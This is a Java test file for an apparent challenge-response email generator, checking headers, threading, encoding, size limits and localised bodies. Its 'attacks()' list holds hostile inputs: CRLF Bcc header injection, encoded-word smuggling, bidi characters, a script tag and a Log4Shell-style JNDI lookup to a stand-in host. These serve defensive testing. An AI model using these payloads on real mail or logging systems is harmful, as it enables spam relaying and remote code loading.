// SPDX-License-Identifier: Apache-2.0
package org.footman.core.challenge;

import static org.assertj.core.api.Assertions.assertThat;

import com.code_intelligence.jazzer.api.FuzzedDataProvider;
import com.code_intelligence.jazzer.junit.FuzzTest;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Locale;
import org.footman.core.address.Address;
import org.footman.core.message.EncodedWords;
import org.footman.core.message.Headers;
import org.footman.core.message.WordEncoder;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** The form of a challenge: protocols.md rules 16 to 24, 33 and 34, vectors SA-40 to SA-45. */
class ChallengeMailTest {
  private static final DraftSample SAMPLE = new DraftSample();

  private static String text(ChallengeMail mail) {
    return new String(mail.bytes(), StandardCharsets.UTF_8);
  }

  private static String one(ChallengeMail mail, String field) {
    assertThat(mail.headers().all(field)).as(field).hasSize(1);
    return mail.headers().all(field).get(0);
  }

  @Test
  void goesToTheSourceAsReceivedFromAnAddressOfItsOwn() { // SA-40, SA-24
    var tagged = Address.parse("prvs=07307b3ea1=Alice@example.com").orElseThrow();
    ChallengeMail mail = SAMPLE.target(tagged).write();

    assertThat(mail.recipient()).isEqualTo(tagged);
    assertThat(one(mail, "To")).isEqualTo("prvs=07307b3ea1=Alice@example.com");
    assertThat(mail.envelopeSender().toString()).matches("bounce\\+[a-z2-7]{34}@here\\.example");
  }

  @Test
  void saysThatItIsAutomatic() { // SA-41, rules 20 and 22, F7
    ChallengeMail mail = SAMPLE.write();

    assertThat(one(mail, "Auto-Submitted")).isEqualTo("auto-replied");
    assertThat(one(mail, "Precedence")).isEqualTo("bulk");
    assertThat(one(mail, "X-Auto-Response-Suppress")).isEqualTo("All");
    assertThat(one(mail, "X-Footman-Challenge")).isEqualTo("1");
    assertThat(mail.headers().fields())
        .extracting(field -> field.name().toLowerCase(Locale.ROOT))
        .noneMatch(name -> name.startsWith("list-") || name.startsWith("disposition-"));
  }

  @Test
  void speaksForTheRecipientAndTakesTheAnswerAtTheTokenAddress() { // SA-41, rule 17
    ChallengeMail mail = SAMPLE.name("Bob \"the\" Builder").write();

    assertThat(one(mail, "From")).isEqualTo("\"Bob \\\"the\\\" Builder\" <bob@here.example>");
    assertThat(one(mail, "Reply-To")).matches("confirm\\+[a-z2-7]{34}@here\\.example");
    assertThat(one(mail, "Message-ID")).matches("<footman\\.[a-z2-7]{34}@here\\.example>");
    assertThat(one(mail, "Date")).isEqualTo("Sun, 22 Nov 2026 02:11:00 +0000");
    assertThat(one(SAMPLE.write(), "From")).isEqualTo("bob@here.example");
    assertThat(one(SAMPLE.name("Jürgen").write(), "From"))
        .isEqualTo("=?utf-8?Q?J=C3=BCrgen?= <bob@here.example>");
  }

  @Test
  void threadsLikeAnAnswer() { // SA-42
    ChallengeMail mail = SAMPLE.thread("<m1@far.example>", "<r0@far.example>").write();

    assertThat(one(mail, "In-Reply-To")).isEqualTo("<m1@far.example>");
    assertThat(one(mail, "References")).isEqualTo("<r0@far.example> <m1@far.example>");
  }

  @ParameterizedTest
  @ValueSource(strings = {"", "m1@far.example", "<m1>", "<m1@far.example\r\nBcc: x@y.example>"})
  void threadsNothingWithoutAMessageId(String messageId) { // SA-43
    ChallengeMail mail = SAMPLE.thread(messageId, "<r0@far.example>").write();

    assertThat(mail.headers().has("In-Reply-To")).isFalse();
    assertThat(mail.headers().has("References")).isFalse();
  }

  @Test
  void marksTheSubjectAndCutsIt() { // rule 18, D3
    String subject = one(SAMPLE.subject("word ".repeat(100)).write(), "Subject");

    assertThat(subject).startsWith("Auto: please reply: word word");
    assertThat(EncodedWords.decode(subject)).hasSizeLessThan(90).endsWith("…");
    assertThat(one(SAMPLE.subject("").write(), "Subject")).isEqualTo("Auto: please reply");
  }

  @Test
  void keepsEncodedWordsWholeAndLinesShort() { // SA-45
    String encoded = WordEncoder.encodeAll("Über 日本語 und 😀 ".repeat(20));
    ChallengeMail mail = SAMPLE.subject(encoded).write();

    assertThat(EncodedWords.decode(one(mail, "Subject")))
        .startsWith("Auto: please reply: Über 日本語 und 😀 Über")
        .doesNotContain("=?", "\uFFFD");
    assertThat(text(mail).lines()).allSatisfy(line -> assertThat(line).hasSizeLessThan(77));
  }

  @ParameterizedTest
  @CsvSource({
    "en, CONSUME, nobody reads it",
    "en, DELIVER, is delivered too",
    "de, CONSUME, von niemandem gelesen",
    "de, DELIVER, ebenfalls zugestellt",
    "fr, CONSUME, personne ne la lit",
    "fr, DELIVER, sera remise elle aussi"
  })
  void saysWhatBecomesOfTheAnswer(String language, ReplyUse use, String words) {
    String body = SAMPLE.language(language).replyUse(use).write().body().replace('\n', ' ');

    assertThat(body).contains(words, "bob@here.example", "al@far.example", "Hi", "2026");
    assertThat(body).doesNotContain("{", "}", "http", "www");
  }

  @ParameterizedTest
  @CsvSource({"en, 22 December 2026", "de, 22. Dezember 2026", "fr, 22 décembre 2026"})
  void saysTheDateInItsLanguage(String language, String date) {
    assertThat(SAMPLE.language(language).write().body().replace('\n', ' ')).contains(date);
  }

  @ParameterizedTest
  @CsvSource({"en, 7bit", "de, quoted-printable", "fr, quoted-printable"})
  void passesEveryServer(String language, String encoding) {
    ChallengeMail mail = SAMPLE.language(language).write();

    assertThat(one(mail, "Content-Type")).isEqualTo("text/plain; charset=utf-8");
    assertThat(one(mail, "Content-Transfer-Encoding")).isEqualTo(encoding);
    assertThat(mail.needsSmtpUtf8()).isFalse();
    assertThat(text(mail)).matches("(?s)[\r\n -~]*").doesNotMatch("(?s).*[^\r]\n.*");
  }

  @ParameterizedTest
  @ValueSource(strings = {"en", "de", "fr"})
  void isNeverLargerThanWhatItAnswers(String language) { // D3
    ChallengeMail longest = SAMPLE.language(language).size(1_000_000).write();
    ChallengeMail shortest = SAMPLE.language(language).size(0).write();

    assertThat(longest.bytes().length).isGreaterThan(shortest.bytes().length).isLessThan(8 * 1024);
    for (int size = shortest.bytes().length; size < longest.bytes().length + 10; size += 7) {
      ChallengeMail mail = SAMPLE.language(language).size(size).write();
      assertThat(mail.bytes().length).isLessThanOrEqualTo(size);
      assertThat(mail.headers().first("Auto-Submitted")).contains("auto-replied");
    }
  }

  @Test
  void leavesRoomForASignature() { // D3
    int full = SAMPLE.size(1_000_000).write().bytes().length;

    assertThat(SAMPLE.size(full + 700).reserved(700).write().bytes()).hasSize(full);
    assertThat(SAMPLE.size(full + 700).reserved(701).write().bytes().length).isLessThan(full);
  }

  @Test
  void shortensAThreadBeforeItBreaksTheLimit() { // D3
    String references = "<r@far.example> ".repeat(240).strip();
    ChallengeMail mail = SAMPLE.thread("<m1@far.example>", references).size(2000).write();

    assertThat(mail.bytes().length).isLessThanOrEqualTo(2000);
    assertThat(one(mail, "References")).isEqualTo("<m1@far.example>");
  }

  @Test
  void isSmallEnoughForShortMail() { // the terse form, for the record
    assertThat(SAMPLE.size(0).write().bytes().length).isLessThan(900);
  }

  @Test
  void needsSmtpUtf8OnlyForASourceThatDoes() { // rules 33 to 35
    ChallengeMail mail =
        SAMPLE
            .target(new Address("jürgen", "xn--bcher-kva.example"))
            .name("Jörg")
            .subject("für")
            .write();

    assertThat(mail.needsSmtpUtf8()).isTrue();
    assertThat(one(mail, "To")).isEqualTo("jürgen@xn--bcher-kva.example");
    assertThat(one(mail, "Subject")).isEqualTo("Auto: please reply: für");
    assertThat(one(mail, "From")).isEqualTo("\"Jörg\" <bob@here.example>");
  }

  @Test
  void asksAnAsciiSenderInAscii() { // rule 34, EX-12
    ChallengeMail mail =
        SAMPLE
            .target(Address.parse("info@bücher.example").orElseThrow())
            .recipient(new Address("jürgen", "here.example"))
            .write();

    assertThat(mail.needsSmtpUtf8()).isFalse();
    assertThat(one(mail, "To")).isEqualTo("info@xn--bcher-kva.example");
    assertThat(one(mail, "From"))
        .matches("=\\?utf-8\\?Q\\?j=C3=BCrgen=40here=2Eexample\\?= <confirm\\+.*@here\\.example>");
    assertThat(text(mail)).matches("(?s)[\r\n -~]*");
  }

  static List<String> attacks() {
    return List.of(
        "x\r\nBcc: victim@other.example",
        "x\nBcc: victim@other.example",
        "x\rBcc: victim@other.example",
        "x\0y",
        "=?utf-8?Q?x=0D=0ABcc:_victim@other.example?=",
        "=?utf-8?B?eA0KQmNjOiB2aWN0aW1Ab3RoZXIuZXhhbXBsZQ==?=",
        "=?utf-8?Q?=3D=3Futf-8=3FQ=3Fx=0A=3F=3D?=",
        "\u202Eexample\u2066x",
        "x\u2028Bcc: y\u0085z",
        "{{sender}} {{{recipient}}} {{>x}}",
        "<script>alert(1)</script>",
        "https://evil.example/?a=b www.evil.example evil.example",
        "=?utf-8?Q?https:=2F=2Fevil.example=2F?=",
        "\"quoted\" \\ <back> ;,:",
        "%s%n${jndi:ldap://evil.example/a}",
        "x".repeat(50_000),
        "\uD83D",
        "=?utf-8?Q?" + "=F0=9F=98=80".repeat(80) + "?=");
  }

  @ParameterizedTest
  @MethodSource("attacks")
  void letsNothingOfAStrangerBecomeAFieldOrALink(String attack) { // E2, E3
    ChallengeMail mail =
        SAMPLE.subject(attack).name(attack).thread(attack + "<m1@far.example>", attack).write();
    Headers plain = SAMPLE.thread("<m1@far.example>", "").write().headers();
    String subject = EncodedWords.decode(one(mail, "Subject"));

    assertThat(mail.headers().fields()).hasSameSizeAs(plain.fields());
    assertThat(mail.headers().fields())
        .allSatisfy(field -> assertThat(field.value()).matches("[ -~]*"));
    assertThat(text(mail).split("\r\n\r\n", 2)[0].split("\r\n(?! )"))
        .hasSameSizeAs(plain.fields())
        .allSatisfy(field -> assertThat(field).matches("(?s)[A-Za-z-]+: .*"));
    assertThat(subject + mail.body()).doesNotContain("://", "www.", "evil.example", "\u202E");
    assertThat(subject).doesNotMatch("(?s).*[\\p{Cc}\\p{Cf}\\p{Cs}].*").hasSizeLessThan(200);
  }

  @FuzzTest
  void writesAsciiLinesWhateverTheSubject(FuzzedDataProvider data) { // E2
    ChallengeMail mail = SAMPLE.subject(data.consumeRemainingAsString()).write();

    assertThat(text(mail).lines()).allSatisfy(line -> assertThat(line).matches("[ -~]{0,76}"));
    assertThat(mail.headers().fields()).hasSize(15);
  }
}
